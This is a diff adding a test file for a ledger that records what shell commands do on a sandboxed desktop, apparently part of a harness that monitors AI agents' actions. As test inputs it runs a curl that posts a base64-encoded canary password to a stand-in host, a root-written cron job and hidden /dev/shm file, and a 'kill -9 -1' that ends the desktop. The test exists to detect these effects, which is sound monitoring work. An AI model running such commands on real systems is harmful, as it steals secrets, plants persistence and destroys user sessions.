@@ -1,0 +1,121 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Desktop } from '../../src/desktop/desktop.ts';
+import { SandboxProvider } from '../../src/desktop/providers/sandbox/sandbox-provider.ts';
+import { makeCanaries } from '../../src/effect/canaries.ts';
+import type { ActionRecord, Effect } from '../../src/effect/effect.ts';
+import { createLedger, type Ledger } from '../../src/effect/ledger.ts';
+
+/** The ledger on a real desktop: what programs really do to files, mail and the network. */
+describe('a ledger over a sandboxed desktop', () => {
+  const provider = new SandboxProvider();
+  const canaries = makeCanaries('real');
+  const effects: Effect[] = [];
+  const actions: ActionRecord[] = [];
+  let desktop: Desktop;
+  let ledger: Ledger;
+  let step = -1;
+
+  beforeAll(async () => {
+    desktop = await provider.create({ width: 1280, height: 800 });
+    for (const [path, text] of Object.entries({
+      '/home/user/Work/plan.txt': 'a plan',
+      '/home/user/Work/old/a.txt': 'first',
+      '/home/user/Work/old/b.txt': 'second',
+      '/home/user/Work/run.sh': 'echo hi',
+    }))
+      await desktop.writeFile(path, Buffer.from(text));
+    ledger = createLedger({
+      desktop,
+      canaries,
+      write: (effect) => void effects.push(effect),
+      writeAction: (action) => void actions.push(action),
+    });
+    await ledger.begin();
+  });
+  afterAll(async () => {
+    await desktop?.close();
+    await provider.close();
+  });
+
+  /** One step: runs a shell command as the user, returns its effects as `kind path → to`. */
+  const after = async (command: string): Promise<string[]> => {
+    step++;
+    ledger.stepStarted(step);
+    const reply = await desktop.exec(command, { shell: true, timeoutMs: 20_000 });
+    const found = await ledger.collect(step);
+    expect(
+      found.every((effect) => effect.step === step),
+      reply.error,
+    ).toBe(true);
+    return found.map(
+      (effect) =>
+        `${effect.source} ${effect.kind} ${effect.path ?? effect.detail.host}${effect.detail.to === undefined ? '' : ` → ${effect.detail.to}`}`,
+    );
+  };
+
+  it('sees nothing where nothing is done', async () => {
+    expect(await after('true')).toEqual([]);
+    expect(await after('cat ~/Work/plan.txt; ls -la ~; touch ~/Work/plan.txt')).toEqual([]);
+  });
+
+  it('sees files made, changed, opened to others, removed and put back', async () => {
+    expect(await after('echo one > ~/Work/new.txt')).toEqual(['file created /home/user/Work/new.txt']);
+    expect(await after('echo more >> ~/Work/plan.txt')).toEqual(['file modified /home/user/Work/plan.txt']);
+    expect(await after('chmod 777 ~/Work/run.sh')).toEqual(['file metadata /home/user/Work/run.sh']);
+    expect(await after('printf "a plan" > ~/Work/plan.txt')).toEqual(['file restored /home/user/Work/plan.txt']);
+    expect(await after('rm ~/Work/new.txt')).toEqual(['file deleted /home/user/Work/new.txt']);
+  });
+
+  it('sees moves, the trash, and a folder that goes as a whole', async () => {
+    expect(await after('mv ~/Work/run.sh ~/Work/start.sh')).toEqual([
+      'file moved /home/user/Work/run.sh → /home/user/Work/start.sh',
+    ]);
+    expect(await after('gio trash ~/Work/start.sh')).toEqual([
+      'file moved /home/user/Work/start.sh → /home/user/.local/share/Trash/files/start.sh',
+    ]);
+    expect(await after('rm -r ~/Work/old')).toEqual(['file deleted /home/user/Work/old']);
+    expect(effects.at(-1)?.detail.contents).toEqual(['/home/user/Work/old/a.txt', '/home/user/Work/old/b.txt']);
+  });
+
+  it('sees what root does inside, in /etc and /tmp', async () => {
+    expect(
+      await after(
+        'echo password | sudo -S sh -c "echo x > /etc/cron.d/job; echo y > /tmp/out.txt; echo z > /dev/shm/hidden"',
+      ),
+    ).toEqual(['cron created /etc/cron.d/job', 'file created /tmp/out.txt']);
+  });
+
+  it('sees requests and what they carry, whatever the encoding', async () => {
+    const secret = Buffer.from(canaries.password ?? '').toString('base64');
+    const found = await after(`curl -s --max-time 10 -d 'q=${secret}' https://forms.kestrel.example/submit`);
+    expect(found).toEqual(['web requested forms.kestrel.example']);
+    expect(effects.at(-1)?.detail.canaries).toEqual([{ name: 'password', encoding: 'base64' }]);
+    expect(JSON.stringify(effects)).not.toContain(canaries.password);
+    expect(actions.some((action) => action.kind === 'name-lookup' && action.text === 'forms.kestrel.example')).toBe(
+      true,
+    );
+  });
+
+  it('knows which window has the focus', async () => {
+    await desktop.launch(['gnome-terminal']);
+    await desktop.settle({ newWindowSince: [], newWindowCapMs: 10_000, capMs: 10_000 });
+    await after('true');
+    expect(actions.filter((action) => action.kind === 'window').at(-1)?.detail.className ?? '').toMatch(/terminal/i);
+  });
+
+  it('still sees the files of a desktop that its agent ended', async () => {
+    step++;
+    ledger.stepStarted(step);
+    await desktop
+      .exec('rm ~/Work/plan.txt; echo password | sudo -S kill -9 -1', { shell: true, timeoutMs: 10_000 })
+      .catch(() => {});
+    for (let wait = 0; wait < 50 && desktop.state().state === 'running'; wait++)
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    expect(desktop.state().state).toBe('destroyed');
+    const found = await ledger.collect(step);
+    expect(found.map((effect) => `${effect.source} ${effect.kind} ${effect.path ?? ''}`)).toEqual([
+      'file deleted /home/user/Work/plan.txt',
+      'desktop destroyed ',
+    ]);
+  });
+});
